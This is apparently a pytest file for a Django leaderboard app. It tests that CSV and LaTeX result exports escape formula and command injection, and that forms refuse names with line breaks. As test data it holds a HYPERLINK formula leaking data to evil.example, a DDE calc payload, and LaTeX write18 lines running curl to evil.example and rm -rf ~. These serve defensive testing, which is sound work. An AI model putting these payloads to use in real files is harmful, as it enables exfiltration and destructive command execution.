"""Exports are inert (issue 11): no CSV cell runs as a spreadsheet formula, nothing in the LaTeX
runs as LaTeX, and names cannot carry a line break in the first place."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.test import Client

from bakeoff.forms import BakeoffForm, RegistrationForm
from bakeoff.models import Bakeoff, Site, Track
from leaderboard.exports import csv_cell, latex_escape
from tests.factories import PERFECT_RUN, WORKED_RUN, publish, rival, upload
from tests.hints import OnCommit

pytestmark = pytest.mark.django_db

TRACK = "/bakeoffs/b2026/tracks/pk-closed/"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
WRITE18 = "Bakeoff 2026\n\\immediate\\write18{curl http://evil.example/$(id)}"
ATTACKS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturn"]


@pytest.mark.parametrize("name", ATTACKS)
def test_a_csv_cell_that_a_spreadsheet_would_run_gets_an_apostrophe(name: str) -> None:
    assert csv_cell(name) == "'" + name


@pytest.mark.parametrize("value", ["0.815", "-1", "-0.25", "S01", "Team A", "", 14, None])
def test_numbers_and_plain_text_pass_as_they_are(value: object) -> None:
    assert csv_cell(value) == value


@pytest.fixture
def attacked(
    participant: User, site: Site, bakeoff: Bakeoff, closed: Track, on_commit: OnCommit
) -> Track:
    """Names written straight into the database (as a name stored before the forms refused line
    breaks would be): the exports must neutralise them whatever the forms let through."""
    Site.objects.filter(pk=site.pk).update(name=HYPERLINK)
    upload(participant, closed, WORKED_RUN, on_commit)
    user, rivals = rival(bakeoff, closed, "Rivals")
    Site.objects.filter(pk=rivals.pk).update(name="Rivals\n\\immediate\\write18{rm -rf ~}")
    upload(user, closed, PERFECT_RUN, on_commit)
    Bakeoff.objects.filter(pk=bakeoff.pk).update(name=WRITE18)
    publish(bakeoff)
    return closed


def test_the_csv_export_neutralises_a_formula_in_a_site_name(
    anonymous: Client, attacked: Track
) -> None:
    body = anonymous.get(TRACK + "results.csv").content.decode()
    rows = list(csv.reader(io.StringIO(body)))
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "@", "\t", "\r"}]
    assert not [
        cell for cell in cells if cell.startswith("-") and cell != "-" and not cell[1:2].isdigit()
    ]


def test_the_latex_export_puts_no_command_of_a_name_on_a_live_line(
    anonymous: Client, attacked: Track
) -> None:
    tex = anonymous.get(TRACK + "results.tex").content.decode()
    assert "write18" in tex  # the names are there, as text
    for line in tex.splitlines():
        assert "\\immediate" not in line, line
        assert "\\write18" not in line, line
    assert "\\textbackslash{}immediate\\textbackslash{}write18\\{curl" in tex
    header = tex.splitlines()[0]
    assert header.startswith("% Bakeoff 2026 \\textbackslash{}immediate")


@pytest.mark.parametrize("text", ["a\nb", "a\rb", "a\u2028b", "a\x00b", "a\x1bb", "a\tb"])
def test_latex_escape_keeps_text_on_one_line(text: str) -> None:
    assert latex_escape(text) == "a b"


def test_latex_escape_escapes_every_special_character() -> None:
    assert latex_escape("\\&%$#_{}~^") == (
        "\\textbackslash{}\\&\\%\\$\\#\\_\\{\\}\\textasciitilde{}\\textasciicircum{}"
    )


def test_names_with_a_line_break_are_refused_by_the_forms(bakeoff: Bakeoff) -> None:
    form = BakeoffForm(
        {
            "name": WRITE18,
            "slug": "x",
            "time_zone": "UTC",
            "registration_opens": "2026-01-01T00:00",
            "registration_closes": "2026-01-02T00:00",
            "training_released": "2026-01-01T00:00",
            "test_released": "2026-01-03T00:00",
            "submission_deadline": "2026-01-04T00:00",
        }
    )
    assert not form.is_valid()
    assert "one line" in str(form.errors["name"])
    registration = RegistrationForm(
        {"name": "Team\nX", "institution": "La\rb", "country": "CN"}, bakeoff=bakeoff
    )
    assert not registration.is_valid()
    assert {"name", "institution"} <= set(registration.errors)
